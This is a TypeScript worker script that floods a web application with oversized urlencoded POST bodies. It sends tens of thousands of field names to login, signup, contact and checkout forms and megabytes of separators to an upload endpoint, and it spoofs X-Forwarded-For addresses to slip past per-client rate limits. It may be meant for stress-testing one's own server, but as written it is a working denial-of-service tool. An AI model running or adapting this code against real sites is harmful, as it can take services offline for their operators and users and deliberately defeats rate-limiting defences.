import { request } from 'node:http';
import { parentPort, workerData } from 'node:worker_threads';

export type AttackOrder = { url: string; cookie: string; clients: number; seconds: number; isOneNetwork: boolean };

const FORMS = ['/contact', '/login', '/signup', '/checkout'];

// 65 kB of different names without values, and 4 MB of one.
const names = Buffer.from(Array.from({ length: 16_500 }, (_, at) => at.toString(36)).join('&'));
const separators = Buffer.from('a&'.repeat(2_000_000));

const { url, cookie, clients, seconds, isOneNetwork } = workerData as AttackOrder;
const statuses = new Map<number, number>();
const until = performance.now() + seconds * 1_000;
await Promise.all(Array.from({ length: clients }, (_, client) => attack(client)));
parentPort?.postMessage(statuses);

/**
 * Half of the clients send field names to forms, the others separators to the upload; each sends the next one when it
 * gets an answer.
 */
async function attack(client: number): Promise<void> {
  const isForm = client % 2 === 0;
  for (let at = 0; performance.now() < until; at += 1) {
    const path = isForm ? (FORMS[at % FORMS.length] ?? '') : '/media/upload';
    const status = await post(path, isForm ? names : separators, {
      ...(!isForm && { cookie }),
      'x-forwarded-for': isOneNetwork ? '10.0.0.1' : `10.${client + 1}.${(at >> 8) & 255}.${at & 255}`,
    });
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
  }
}

/** The status of the response; 0 if the connection ended without one. */
function post(path: string, body: Buffer, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve) => {
    const sent = request(`${url}${path}`, {
      method: 'POST',
      headers: {
        origin: url,
        'content-type': 'application/x-www-form-urlencoded',
        'content-length': body.length,
        ...headers,
      },
    });
    sent.on('response', (answer) => {
      answer.resume();
      answer.on('close', () => resolve(answer.statusCode ?? 0));
    });
    sent.on('error', () => resolve(0));
    sent.end(body);
  });
}
